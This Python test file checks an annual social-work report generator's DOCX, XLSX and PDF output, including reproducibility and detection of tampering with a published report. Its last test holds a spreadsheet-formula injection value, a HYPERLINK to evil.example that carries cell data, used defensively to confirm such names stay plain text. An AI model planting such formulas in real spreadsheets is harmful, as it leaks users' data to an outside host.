"""The report's documents from a fixed set of figures (``figures.json``: what the services
of a generated city answered, as ``figures.collect`` gathered them) — no services needed.
The end-to-end test against running services is ``tests/e2e/test_annual_report.py``."""

from __future__ import annotations

import copy
import io
import json
import re
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook
from typer.testing import CliRunner

from shegong.report import pdf, publish, text
from shegong.report.charts import cjk_font
from shegong.report.document import build_docx
from shegong.report.tables import TEMPLATE, build_xlsx

pytestmark = pytest.mark.slow

HERE = Path(__file__).parent


@pytest.fixture
def figures() -> dict[str, Any]:
    return json.loads((HERE / "figures.json").read_text())


def paragraphs(docx: bytes) -> list[str]:
    return [p.text for p in Document(io.BytesIO(docx)).paragraphs]


def test_the_seed_reports_sentences_with_the_citys_numbers(figures: dict[str, Any]) -> None:
    w, t = figures["workforce"], figures["training"]
    body = "\n".join(paragraphs(build_docx(figures)))
    seed = (
        r"截至(\d{4})年年底，全市社会工作专业人员总量达 (\d+) 人，其中持证专业人员达 (\d+) 人，"
        r"同比分别增长 ([\d.]+)% 和 ([\d.]+)%。"
    )
    found = re.search(seed, body)
    assert found is not None, body
    assert found.groups() == (
        str(figures["year"]),
        str(w["professionals"]),
        str(w["certified"]),
        f"{w['professionals_yoy'] * 100:.1f}",
        f"{w['certified_yoy'] * 100:.1f}",
    )
    assert re.search(
        rf"新增社会工作专业人员 {w['new_professionals']} 名，考取社会工作职业资格证书 "
        rf"{w['newly_certified']} 人、持证专业人员转化率达 {w['conversion_rate'] * 100:.1f}%",
        body,
    )
    assert f"累计开展各类专题培训 {t['sessions']} 期，覆盖 {t['person_times']} 人次" in body
    assert f"由 {w['expert_pool']} 名取得社会工作师以上资格人员组成" in body
    doc = Document(io.BytesIO(build_docx(figures)))
    assert len(doc.inline_shapes) == 5  # the five charts
    assert [len(tb.rows) for tb in doc.tables] == [1 + 1 + len(figures["units"])] * 3
    assert doc.tables[0].rows[1].cells[1].text == str(w["professionals"])


def test_growth_decline_and_no_last_year() -> None:
    assert text._growth(0.513, 0.588) == "同比分别增长 51.3% 和 58.8%"
    assert text._growth(-0.1, -0.2) == "同比分别下降 10.0% 和 20.0%"
    assert text._growth(0.1, -0.2) == "同比分别增长 10.0% 和下降 20.0%"
    assert text._growth(None, 0.2) == "上年同期无可比数据，不计同比"
    assert text.day_phrase("2024-12-31") == "截至2024年年底"
    assert text.day_phrase("2024-06-30") == "截至2024年6月30日"
    assert (text.num(1699), text.num(18.24), text.pct(0.3441), text.pct(None)) == (
        "1699",
        "18.2",
        "34.4%",
        "—",
    )


def test_mid_year_and_missing_figures_are_said_so(figures: dict[str, Any]) -> None:
    mid = copy.deepcopy(figures)
    mid["as_of_date"] = f"{figures['year']}-06-30"
    mid["workforce"]["community_workers_per_10k"] = None
    mid["services"]["time_to_accept_s"]["median"] = None
    body = "\n".join(paragraphs(build_docx(mid)))
    assert f"截至{figures['year']}年6月30日，全市社会工作专业人员总量达" in body
    assert f"{figures['year']}年以来新增社会工作专业人员" in body
    assert "城镇常住人口未录入，每万人配备数暂无法计算" in body
    assert "接单时长暂无数据" in body


def test_same_figures_same_bytes(figures: dict[str, Any]) -> None:
    docx, xlsx = build_docx(figures), build_xlsx(figures)
    time.sleep(1.1)  # a zip entry's time has 2-second steps; a clock would show
    assert build_docx(figures) == docx and build_xlsx(figures) == xlsx


def test_published_report_regenerates_identically_and_is_checked(
    figures: dict[str, Any], tmp_path: Path
) -> None:
    path = tmp_path / "published.json"
    record = publish.publish(figures, "市委社会工作部", path)
    assert record["positions"] == figures["positions"]
    again = publish.load(path)
    docx = publish.render(again, "docx")
    assert publish.render(publish.load(path), "docx") == docx
    assert publish.render(again, "xlsx") == publish.render(record, "xlsx")
    assert any("发布并冻结（市委社会工作部）" in p for p in paragraphs(docx))
    again["figures"]["workforce"]["professionals"] += 1  # a tampered file is not the report
    with pytest.raises(RuntimeError, match="differs from the one published"):
        publish.render(again, "docx")
    (tmp_path / "other.json").write_text("{}")
    with pytest.raises(ValueError, match="not a published shegong report"):
        publish.load(tmp_path / "other.json")


def test_the_provinces_tables_follow_the_documented_template(figures: dict[str, Any]) -> None:
    doc = (HERE.parent / "TEMPLATE.md").read_text()
    for sheet, (title, columns) in TEMPLATE.items():
        section = doc.split(f"## {sheet} — {title}")[1].split("\n## ")[0]
        documented = re.findall(r"^\| ([^|]+?) \| ([^|]+?) \|", section, re.M)[
            1:
        ]  # past the header
        assert [c for c, _ in documented] == ["区划", *(h for h, _, _ in columns)], sheet
    book = load_workbook(io.BytesIO(build_xlsx(figures)))
    assert book.sheetnames == [*TEMPLATE, "表6 培训分类", "说明"]
    w = figures["workforce"]
    first = book["表1 专业人员总体情况"]
    assert first["A1"].value == f"{figures['year']}年社会工作专业人员总体情况"
    assert [first["A4"].value, first["B4"].value, first["D4"].value] == [
        "全市（合计）",
        w["professionals"],
        pytest.approx(w["professionals_yoy"]),
    ]
    assert first["D4"].number_format == "0.0%"
    assert first.max_row == 4 + len(figures["units"])
    levels = book["表2 三级进阶"]
    assert levels["D4"].value == w["by_level"]["senior"] == w["senior"]
    notes = {row[0].value: row[1].value for row in book["说明"].iter_rows(min_row=2)}
    assert "人员库口径" not in notes  # nothing waits for a clerk in these figures
    waiting = copy.deepcopy(figures)
    waiting["workforce"]["basis"] = "best_estimate"
    waiting["workforce"]["review"] = {"queued_pairs": 12, "counted_as_one": 9}
    book = load_workbook(io.BytesIO(build_xlsx(waiting)))
    notes = {row[0].value: row[1].value for row in book["说明"].iter_rows(min_row=2)}
    assert (
        notes["人员库口径"] == "最佳估计：待人工核对的 12 对配对中 9 对（匹配概率 ≥ 0.5）按一人计"
    )


def test_charts_have_a_cjk_font() -> None:
    if cjk_font() is None:
        pytest.skip("no CJK font installed (apt-get install fonts-wqy-microhei)")
    assert (
        cjk_font()
        in ("WenQuanYi Micro Hei", "Noto Sans CJK SC", "Noto Sans CJK JP", "Noto Sans SC")
        or cjk_font()
    )


@pytest.mark.skipif(pdf.soffice() is None, reason="LibreOffice not installed (PDF optional)")
def test_pdf_through_libreoffice(figures: dict[str, Any]) -> None:
    data = pdf.docx_to_pdf(build_docx(figures))
    assert data.startswith(b"%PDF-") and len(data) > 20_000


def test_no_libreoffice_no_pdf_and_the_reason(
    figures: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from shegong.report.cli import annual

    monkeypatch.setattr(pdf, "soffice", lambda: None)
    path = tmp_path / "published.json"
    publish.publish(figures, "t", path)
    import typer

    app = typer.Typer()
    app.command()(annual)
    runner = CliRunner()
    out = tmp_path / "报告.pdf"
    done = runner.invoke(app, ["--year", "2026", "--from-published", str(path), "-o", str(out)])
    assert done.exit_code == 3 and not out.exists()
    assert "libreoffice-writer-nogui" in done.output
    again = tmp_path / "报告.docx"
    done = runner.invoke(app, ["--year", "2026", "--from-published", str(path), "-o", str(again)])
    assert done.exit_code == 0, done.output
    assert again.read_bytes() == publish.render(publish.load(path), "docx")


def test_no_text_in_the_tables_runs_as_a_formula(figures: dict[str, Any]) -> None:
    """A name the city's data carries (a region, the publisher) written as a formula stays
    text in the XLSX: openpyxl wrote any string starting with "=" as a live formula."""
    hostile = '=HYPERLINK("http://evil.example/?d="&B5,"点击查看")'
    figures = {**figures, "region_name": hostile}
    figures["units"] = [{**figures["units"][0], "name": "=1+1"}, *figures["units"][1:]]
    xlsx = build_xlsx(figures)
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    book = load_workbook(io.BytesIO(xlsx))
    first = book.worksheets[0]
    assert [first.cell(row=r, column=1).value for r in (4, 5)] == [f"{hostile}（合计）", "=1+1"]
    assert first.cell(row=5, column=1).data_type == "s"
